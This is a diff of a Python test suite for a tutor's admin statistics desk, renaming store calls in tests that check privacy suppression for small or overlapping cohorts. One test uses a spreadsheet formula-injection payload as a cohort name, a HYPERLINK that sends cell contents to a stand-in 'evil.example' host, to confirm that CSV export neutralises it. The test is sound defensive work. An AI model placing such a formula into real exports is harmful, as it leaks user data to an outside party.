@@ -53,31 +53,31 @@ async def residents(
     store: Store, ids: range, *, cohort: str | None = None, answer: bool = True
 ) -> None:
     """Consented residents, optionally in a cohort, each answering one question once."""
-    found = await store.cohort(name=cohort) if cohort else None
+    found = await store.cohorts.find(name=cohort) if cohort else None
     for resident_id in ids:
-        await store.ensure_resident(resident_id=resident_id, language="en")
-        await store.give_consent(resident_id=resident_id)
+        await store.residents.ensure(resident_id=resident_id, language="en")
+        await store.residents.give_consent(resident_id=resident_id)
         if found is not None:
-            await store.join_cohort(resident_id=resident_id, cohort_id=found.id)
+            await store.cohorts.join(resident_id=resident_id, cohort_id=found.id)
         if answer:
             await answer_once(store, resident_id, "pay-codes-q1", option=0)
 
 
 async def answer_once(store: Store, resident_id: int, question_id: str, *, option: int) -> None:
-    attempt = await store.start_attempt(
+    attempt = await store.quizzes.start(
         resident_id=resident_id, lesson_id="pay-codes", question_ids=[question_id], kind="full"
     )
     # Answers name their option by its stable id (statistics count by it), as the tutor stores.
     question = _CONTENT.curriculum.question(question_id)
     assert question is not None
-    await store.record_answer(
+    await store.quizzes.record_answer(
         attempt=attempt,
         position=0,
         option_index=option,
         option_id=question.options[option].id,
         correct=False,
     )
-    await store.finish_attempt(attempt_id=attempt.id)
+    await store.quizzes.finish(attempt_id=attempt.id)
 
 
 def said(reply: Reply) -> str:
@@ -101,7 +101,7 @@ async def stored_rows(store: Store, reply: Reply) -> list[dict[str, str]]:
 
 
 async def test_a_cohort_below_k_members_gets_no_figures(desk: AdminDesk, store: Store) -> None:
-    await store.create_cohort(code="tiny000001", name="Tiny", created_by=ADMIN)
+    await store.cohorts.create(code="tiny000001", name="Tiny", created_by=ADMIN)
     await residents(store, range(1, 5), cohort="Tiny")  # 4 members
     await residents(store, range(100, 110))
     texts = desk.content.ui["en"].admin
@@ -117,7 +117,7 @@ async def test_a_cohort_below_k_members_gets_no_figures(desk: AdminDesk, store: 
 
 async def test_a_cohort_close_to_everyone_is_refused(desk: AdminDesk, store: Store) -> None:
     """Everyone minus the cohort would be the few residents outside it."""
-    await store.create_cohort(code="almostall1", name="Almost all", created_by=ADMIN)
+    await store.cohorts.create(code="almostall1", name="Almost all", created_by=ADMIN)
     await residents(store, range(1, 9), cohort="Almost all")
     await residents(store, range(50, 52))  # only 2 consented residents outside it
     texts = desk.content.ui["en"].admin
@@ -133,26 +133,26 @@ async def test_a_cohort_close_to_everyone_is_refused(desk: AdminDesk, store: Sto
 
 async def test_two_cohorts_a_few_residents_apart_are_refused(desk: AdminDesk, store: Store) -> None:
     """Cohort B = cohort A plus one resident: B's figures minus A's describe that one."""
-    await store.create_cohort(code="lecture001", name="Lecture", created_by=ADMIN)
-    await store.create_cohort(code="lecture002", name="Lecture plus one", created_by=ADMIN)
+    await store.cohorts.create(code="lecture001", name="Lecture", created_by=ADMIN)
+    await store.cohorts.create(code="lecture002", name="Lecture plus one", created_by=ADMIN)
     await residents(store, range(1, 8), cohort="Lecture")
-    plus = await store.cohort(name="Lecture plus one")
+    plus = await store.cohorts.find(name="Lecture plus one")
     assert plus is not None
     for resident_id in range(1, 9):
         if resident_id == 8:
             await residents(store, range(8, 9))
-        await store.join_cohort(resident_id=resident_id, cohort_id=plus.id)
+        await store.cohorts.join(resident_id=resident_id, cohort_id=plus.id)
     await residents(store, range(100, 110))
     texts = desk.content.ui["en"].admin
     for name, other in (("Lecture", "Lecture plus one"), ("Lecture plus one", "Lecture")):
         reply = await desk.handle(ADMIN, "en", "stats", name)
         assert said(reply) == texts.cohort_too_close.format(name=name, other=other, k=K)
     # The same members twice is no difference at all: both views show the same figures.
-    await store.create_cohort(code="lecture003", name="Lecture again", created_by=ADMIN)
-    again = await store.cohort(name="Lecture again")
+    await store.cohorts.create(code="lecture003", name="Lecture again", created_by=ADMIN)
+    again = await store.cohorts.find(name="Lecture again")
     assert again is not None
     for resident_id in range(1, 9):
-        await store.join_cohort(resident_id=resident_id, cohort_id=again.id)
+        await store.cohorts.join(resident_id=resident_id, cohort_id=again.id)
     reply = await desk.handle(ADMIN, "en", "stats", "Lecture again")
     assert said(reply) == texts.cohort_too_close.format(name="Lecture again", other="Lecture", k=K)
 
@@ -238,7 +238,7 @@ async def test_suppressed_cells_carry_no_figure_in_the_csv(desk: AdminDesk, stor
 
 async def test_csv_cells_cannot_start_a_formula(desk: AdminDesk, store: Store) -> None:
     name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    await store.create_cohort(code="formula001", name=name, created_by=ADMIN)
+    await store.cohorts.create(code="formula001", name=name, created_by=ADMIN)
     await residents(store, range(1, 7), cohort=name)
     await residents(store, range(100, 106))
     reply = await desk.handle(ADMIN, "en", "export", name)
@@ -272,7 +272,7 @@ def test_safe_csv_text(text: str, safe: str) -> None:
 async def test_broadcast_preview_shows_a_small_audience_as_less_than_k(
     desk: AdminDesk, store: Store
 ) -> None:
-    await store.create_cohort(code="small00001", name="Small", created_by=ADMIN)
+    await store.cohorts.create(code="small00001", name="Small", created_by=ADMIN)
     await residents(store, range(1, 4), cohort="Small", answer=False)
     reply = await desk.handle(ADMIN, "en", "broadcast", "@Small Hello")
     preview = said(reply)
@@ -342,8 +342,8 @@ async def test_items_count_first_tries_and_show_retries_apart(
     wrong = [i for i in range(len(question.options)) if i != question.correct_index]
     first_choice, retry_choice = wrong[0], wrong[1]
     for resident_id in range(1, 7):
-        await store.ensure_resident(resident_id=resident_id, language="en")
-        await store.give_consent(resident_id=resident_id)
+        await store.residents.ensure(resident_id=resident_id, language="en")
+        await store.residents.give_consent(resident_id=resident_id)
         await answer_once(store, resident_id, question.id, option=first_choice)
     # One resident retries ten times with another wrong option: 10 answers, 1 resident.
     for _ in range(10):
@@ -364,7 +364,7 @@ async def test_finlit_stats_on_the_command_line_refuses_a_small_cohort(
     url = f"sqlite+aiosqlite:///{tmp_path}/cli.db"
     store = await Store.open(url)
     try:
-        await store.create_cohort(code="tiny000002", name="Tiny", created_by=ADMIN)
+        await store.cohorts.create(code="tiny000002", name="Tiny", created_by=ADMIN)
         await residents(store, range(1, 3), cohort="Tiny")
     finally:
         await store.close()
